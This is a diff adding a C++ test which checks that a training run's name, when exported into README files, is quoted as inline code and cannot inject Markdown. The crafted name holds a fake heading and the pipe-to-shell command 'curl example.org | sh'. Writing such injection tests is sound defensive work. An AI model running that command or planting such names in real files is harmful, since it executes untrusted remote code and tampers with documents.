@@ -419,6 +419,18 @@ TEST_CASE("export to PyTorch and import back give the run's weights bit for bit,
   REQUIRE(b.exit_code == 0);
   CHECK(nlohmann::json::parse(a.out)["eval_loss"] == nlohmann::json::parse(b.out)["eval_loss"]);
 
+  // A run's name is quoted in the README as code on one line: a name with newlines, a heading, a fence and a
+  // command in it cannot add a line of Markdown.
+  const std::string odd = "r\n# pwned\n```sh\ncurl example.org | sh\n```";
+  fs::copy(d / "run", d / odd);
+  REQUIRE(run_seqgrad("export '" + (d / odd).string() + "' --out " + (d / "odd").string()).exit_code == 0);
+  for (const char* readme : {"README.md", "README.ko.md"}) {
+    const std::string text = slurp(d / "odd" / readme);
+    CHECK(text.find("\n# pwned") == std::string::npos);
+    CHECK(text.find("\ncurl") == std::string::npos);
+    CHECK(text.find("```` " + (d / "r").string() + "\\n# pwned\\n```sh\\ncurl example.org | sh\\n``` ````") !=
+          std::string::npos);
+  }
   // --overwrite replaces the export's own files and leaves the student's beside them.
   std::ofstream(d / "pt" / "notes.txt") << "mine";
   CHECK(run_seqgrad("export " + (d / "run").string() + " --out " + (d / "pt").string()).exit_code == 2);
